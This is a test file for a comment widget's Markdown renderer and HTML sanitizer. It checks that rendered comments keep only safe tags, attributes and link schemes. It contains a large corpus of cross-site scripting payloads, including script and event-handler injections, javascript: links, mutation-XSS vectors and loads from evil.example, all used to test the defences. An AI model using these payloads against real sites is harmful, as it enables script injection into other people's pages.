import fc from 'fast-check';
import {describe, expect, it} from 'vitest';

import {renderBody} from '../../src/markdown/render.js';
import {renderMarkdown, RENDER_MAX_LENGTH} from '../../src/markdown/render-markdown.js';
import {HTML_BUDGET, sanitizeBody} from '../../src/markdown/sanitize.js';
import {markdownToHtml} from '../../src/protocol/markdown.js';
import {isPlainText} from '../../src/protocol/plain-text.js';

/** Parses rendered HTML into an inert template, to inspect what the DOM would get. */
function dom(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

const ALLOWED_TAGS = new Set(['A', 'BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'EM', 'HR', 'LI', 'OL', 'P', 'PRE', 'STRONG', 'UL',
  'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD']);
const ALLOWED_ATTRS = new Set(['href', 'title', 'start', 'align', 'rel', 'tabindex']);

/** Everything a rendered comment may never contain, checked on the parsed DOM, not on the string. */
function expectHarmless(html: string): void {
  for (const el of dom(html).querySelectorAll('*')) {
    expect(ALLOWED_TAGS, `<${el.localName}> in ${html}`).toContain(el.tagName);
    for (const attr of el.attributes) {
      expect(ALLOWED_ATTRS, `${attr.name} on <${el.localName}> in ${html}`).toContain(attr.name);
    }
    if (el.hasAttribute('href')) {
      expect(el.getAttribute('href')).toMatch(/^(https?:|mailto:)/i);
      expect(el.getAttribute('rel')).toBe('nofollow ugc noopener noreferrer');
    }
  }
}

// Our own corpus: classic vectors, mutation XSS, scheme tricks, Markdown-specific smuggling.
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "//evil.example/x.css"; *{color:red}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1)>click</x>',
  '"><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](/relative/path)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
  '[x](https://ok.example" onmouseover="alert(1))',
  '![x](https://tracker.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://x.example/a.png)',
  '[![x](https://tracker.example/a.png)](https://ok.example)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '> <img src=x onerror=alert(1)>',
  '* <a href=javascript:alert(1)>x</a>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [x] <input onfocus=alert(1) autofocus>',
  '# <img src=x onerror=alert(1)>',
  'https://ok.example/<script>alert(1)</script>',
  'www.ok.example/"onmouseover="alert(1)',
  'mailto:x@example.com?body=<script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<a href="https://ok.example" target="_top" rel="opener" id="x" class="y" data-x="1" aria-label="z" style="color:red">x</a>',
];

describe('renderMarkdown', () => {
  it.each(ATTACKS)('renders %j harmlessly', (source) => {
    expectHarmless(renderMarkdown(source));
  });

  it('shows raw HTML as the text the commenter typed', () => {
    const fragment = dom(renderMarkdown('Hello <b>world</b> <script>alert(1)</script>'));
    expect(fragment.querySelector('b, script')).toBeNull();
    expect(fragment.textContent).toContain('<b>world</b>');
    expect(fragment.textContent).toContain('<script>alert(1)</script>');
  });

  it('turns remote images into links, so readers do not request them', () => {
    const fragment = dom(renderMarkdown('![a cat](https://cats.example/cat.png)'));
    expect(fragment.querySelector('img')).toBeNull();
    const link = fragment.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://cats.example/cat.png');
    expect(link.textContent).toBe('a cat');
  });

  it('keeps web and mail links, with rel="nofollow ugc noopener noreferrer"', () => {
    const fragment = dom(renderMarkdown('[site](https://ok.example/a?b=1) <https://auto.example> [mail](mailto:a@b.example)'));
    const links = [...fragment.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://ok.example/a?b=1', 'https://auto.example', 'mailto:a@b.example']);
    for (const a of links) expect(a.rel).toBe('nofollow ugc noopener noreferrer');
  });

  it('shows links Colloquy will not follow as plain text, never as a dead link', () => {
    const sources = ['[click me](javascript:alert(1))', '[rel](/x)', '[anchor](#top)', '[bare](example.com)', '[empty]()',
      '[ftp](ftp://x.example)', '[proto](//x.example)', '[ref][r]\n\n[r]: /relative', '[data](data:text/html,x)',
      '<ftp://x.example>', '[spaced]( /x )', '[tel](tel:+123)'];
    for (const source of sources) {
      const fragment = dom(renderMarkdown(source));
      expect(fragment.querySelector('a'), source).toBeNull();
      expect(fragment.textContent!.length, source).toBeGreaterThan(0);
    }
  });

  it('keeps the number an ordered list starts at', () => {
    const list = dom(renderMarkdown('3. build\n4. ship')).querySelector('ol')!;
    expect(list.getAttribute('start')).toBe('3');
    expect(list.start).toBe(3);
    expect(dom(renderMarkdown('1. one')).querySelector('ol')!.hasAttribute('start')).toBe(false);
  });

  it('keeps table column alignment, and lets the keyboard reach a table that scrolls', () => {
    const table = dom(renderMarkdown('| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |')).querySelector('table')!;
    expect([...table.querySelectorAll('th')].map((th) => th.getAttribute('align'))).toEqual(['left', 'center', 'right']);
    expect([...table.querySelectorAll('td')].map((td) => td.getAttribute('align'))).toEqual(['left', 'center', 'right']);
    expect(table.getAttribute('tabindex')).toBe('0');
  });

  it('makes a linked image (a badge) one link named by the image\'s alt text', () => {
    const fragment = dom(renderMarkdown('[![build passing](https://ci.example/badge.svg)](https://ci.example/run/1)'));
    const links = [...fragment.querySelectorAll('a')];
    expect(links.map((a) => [a.getAttribute('href'), a.textContent])).toEqual([['https://ci.example/run/1', 'build passing']]);
  });

  it('writes image alt text as plain text, with Markdown and character references resolved', () => {
    expect(dom(renderMarkdown('![*nice* caf&eacute; `x<y`](https://i.example/a.png)')).querySelector('a')!.textContent)
      .toBe('nice café x<y');
  });

  it('names a link that has no text by where it goes', () => {
    const link = dom(renderMarkdown('[](https://ok.example/x) and [**](https://ok.example/y)')).querySelector('a')!;
    expect(link.textContent).toBe('https://ok.example/x');
  });

  it('removes bidi embeddings, overrides and isolates, so a link text cannot disguise where it leads', () => {
    const fragment = dom(renderMarkdown('[invoice\u202Efdp.exe](https://x.example/a.exe) \u2067(admin)\u2069 \u202Bx\u202C'));
    expect(fragment.textContent).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(fragment.querySelector('a')!.textContent).toBe('invoicefdp.exe');
  });

  it('renders the Markdown commenters use', () => {
    const fragment = dom(renderMarkdown('**b** _i_ ~~d~~ `c`\n\n> q\n\n1. one\n2. two\n\n- x\n\n```\ncode\n```\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |'));
    for (const tag of ['strong', 'em', 'del', 'code', 'blockquote', 'ol', 'ul', 'pre', 'hr', 'table', 'td']) {
      expect(fragment.querySelector(tag), tag).not.toBeNull();
    }
  });

  it('turns headings into strong paragraphs, so comments do not outrank the page', () => {
    const fragment = dom(renderMarkdown('# Big\n\n### Smaller'));
    expect(fragment.querySelector('h1, h2, h3, h4, h5, h6')).toBeNull();
    expect([...fragment.querySelectorAll('p > strong')].map((s) => s.textContent)).toEqual(['Big', 'Smaller']);
  });

  it('keeps line breaks as typed', () => {
    expect(dom(renderMarkdown('one\ntwo')).querySelectorAll('br').length).toBe(1);
  });

  it('survives pathological nesting and repetition without throwing', () => {
    const inputs = [
      '>'.repeat(10_000) + ' deep',
      '*'.repeat(10_000),
      '['.repeat(5_000) + ']('.repeat(5_000),
      '- '.repeat(3_000) + 'x',
      '`'.repeat(10_000),
      '<'.repeat(10_000),
      '_a '.repeat(3_000),
      'a'.repeat(200_000),
    ];
    for (const input of inputs) expectHarmless(renderMarkdown(input));
  });

  it('shows a body nested too deep for the parser as plain text', () => {
    const fragment = dom(renderMarkdown(`${'>'.repeat(10_000)} deep <img src=x onerror=alert(1)>\n\nnext`));
    expect(fragment.querySelectorAll('p').length).toBe(2);
    expect(fragment.querySelector('img, blockquote')).toBeNull();
    expect(fragment.textContent).toContain('deep <img src=x onerror=alert(1)>');
  });

  it(`cuts sources longer than ${RENDER_MAX_LENGTH} characters before parsing`, () => {
    const text = dom(renderMarkdown('x'.repeat(RENDER_MAX_LENGTH * 3))).textContent!.trim();
    expect(text.length).toBeLessThanOrEqual(RENDER_MAX_LENGTH + 1);
    expect(text.endsWith('…')).toBe(true);
  });

  it('does not change the page\'s own marked or DOMPurify', async () => {
    const {default: DOMPurify} = await import('dompurify');
    const {marked} = await import('marked');
    renderMarkdown('[x](https://ok.example)');
    expect(DOMPurify.sanitize('<a href="https://ok.example">x</a>')).not.toContain('nofollow');
    expect(marked.parse('<b>x</b>')).toContain('<b>x</b>');
  });
});

// A server sends `html` beside the Markdown; any server may be hostile, so it meets the same gate.
describe('HTML from a server', () => {
  const HTML_ATTACKS: readonly string[] = [
    ...ATTACKS,
    '<p onclick="alert(1)" style="position:fixed;inset:0" class="x" id="heading">cover the page</p>',
    '<a href="https://ok.example" onmouseover="alert(1)" target="_blank" rel="opener">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<ol start="1 onclick=alert(1)"><li>x</li></ol><td align="javascript:alert(1)">x</td>',
    '<p>a</p><colloquy-comments api="https://evil.example"></colloquy-comments>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form><input name="ownerDocument"></form><p>clobbered</p>',
    '<img src="https://tracker.example/pixel.gif" alt="pixel">',
    '<p>\u202Egnp.exe</p><a href="https://ok.example">\u202Elink\u202C</a>',
    '</p><p>closing more than it opened</div></section></article>',
  ];

  it.each(HTML_ATTACKS)('passes %j through the sanitizer harmlessly', (html) => {
    const body = sanitizeBody(html);
    expect(body).not.toBeNull();
    expectHarmless(body!.innerHTML);
    expect(body!.innerHTML).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  });

  it('passes plain paragraphs of any text through as the parser builds them', () => {
    // Text of any characters, as marked writes it: escaped, in paragraphs, lines broken with <br>.
    const escape = (text: string) => text.replace(/[&<>"']/g, (c) => ({'&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;'})[c]!);
    const paragraph = fc.array(fc.string({unit: 'grapheme', maxLength: 30}).map(escape), {minLength: 1, maxLength: 4}).map((lines) => `<p>${lines.join('<br>')}</p>`);
    fc.assert(fc.property(fc.array(paragraph, {minLength: 1, maxLength: 4}), fc.boolean(), (paragraphs, newlines) => {
      const html = paragraphs.join(newlines ? '\n' : '');
      const expected = document.createElement('template');
      expected.innerHTML = html;
      const body = sanitizeBody(html)!;
      // Newlines between paragraphs render as nothing: compared without them.
      expect(body.innerHTML.replace(/<\/p>\n/g, '</p>')).toBe(expected.innerHTML.replace(/<\/p>\n/g, '</p>').replace(/[\u202A-\u202E\u2066-\u2069]/g, ''));
      expect([...body.querySelectorAll('*')].every((el) => el.localName === 'p' || el.localName === 'br')).toBe(true);
    }), {numRuns: 300});
  });

  it('keeps the text of plain paragraphs as text, even when it reads like markup', () => {
    const body = sanitizeBody('<p>&lt;img src=x onerror=alert(1)&gt; &amp;amp; &quot;q&quot; &#39;s&#39;<br>line two</p>')!;
    expect(body.querySelector('img')).toBeNull();
    expect(body.textContent).toBe('<img src=x onerror=alert(1)> &amp; "q" \'s\'line two');
    expect(body.querySelectorAll('br')).toHaveLength(1);
  });

  it('refuses HTML over budget, too long or nested too deep, and the body is rendered from its Markdown instead', () => {
    const long = `<p>${'x'.repeat(HTML_BUDGET.length)}</p>`;
    const deep = `${'<blockquote>'.repeat(HTML_BUDGET.depth + 5)}x${'</blockquote>'.repeat(HTML_BUDGET.depth + 5)}`;
    for (const html of [long, deep]) {
      expect(sanitizeBody(html)).toBeNull();
      const body = renderBody('the **Markdown** source', html);
      expect(body.querySelector('blockquote')).toBeNull();
      // Rendered as Markdown when the dialect is loaded (these tests load it), else as typed.
      expect(body.textContent).toContain('Markdown');
    }
  });

  it('shows what the dialect would: the server\'s HTML and the widget\'s own rendering of the same body agree', () => {
    for (const source of ['**bold** _it_ `code` [l](https://ok.example)', '> quote\n\n- a\n- b', '| a |\n|---|\n| 1 |', 'plain text\nnext line']) {
      expect(renderBody(source, markdownToHtml(source)).innerHTML).toBe(renderMarkdown(source));
    }
  });
});

// A server leaves out `html` for plain text; the widget then shows its paragraphs without a parser.
describe('plain text', () => {
  const TOKENS = ['word', 'Ada', ' ', '  ', '\n', '\n\n', '\n\n\n', '.', ',', '-', '+', '=', ':', '/', "'", '"', '(', ')', '?', ';', '%',
    '$', '^', '{', '}', '1', '2.', '3)', '10.', 'é', '中文', '😀', 'http', 'www', 'a.b', '\u00a0', '\u202e', '*', '_', '`', '#', '>', '<',
    '&', '[', ']', '!', '|', '~', '@', '\\', '\t'];
  const text = fc.array(fc.constantFrom(...TOKENS), {minLength: 1, maxLength: 40}).map((parts) => parts.join(''));

  it('is shown exactly as the dialect would render it, whenever the test says it is plain', () => {
    let plain = 0;
    fc.assert(fc.property(text, (body) => {
      if (!isPlainText(body)) return;
      plain++;
      const ours = renderBody(body).innerHTML;
      const dialect = sanitizeBody(markdownToHtml(body))!.innerHTML.replace(/<\/p>\n/g, '</p>');
      expect(ours, JSON.stringify(body)).toBe(dialect);
    }), {numRuns: 5000});
    expect(plain).toBeGreaterThan(100); // the generator reaches plain text often enough to mean something
  });

  it('is not what Markdown, a link, an address or an indented line could be', () => {
    for (const body of ['**b**', 'a_b_', '`c`', '[l](https://x.example)', 'see https://x.example', 'www.x.example', 'a@b.example',
      '- item', '1. item', '> quote', '# title', 'title\n===', '    code', 'a \nb', '&amp;', '<b>', 'a|b', '~~s~~', '']) {
      expect(isPlainText(body), body).toBe(false);
    }
    for (const body of ['Thanks, this helped!'.replace('!', '.'), 'Two lines\nhere', 'Para one.\n\nPara two (with 3 items: a, b, c).']) {
      expect(isPlainText(body), body).toBe(true);
    }
  });
});
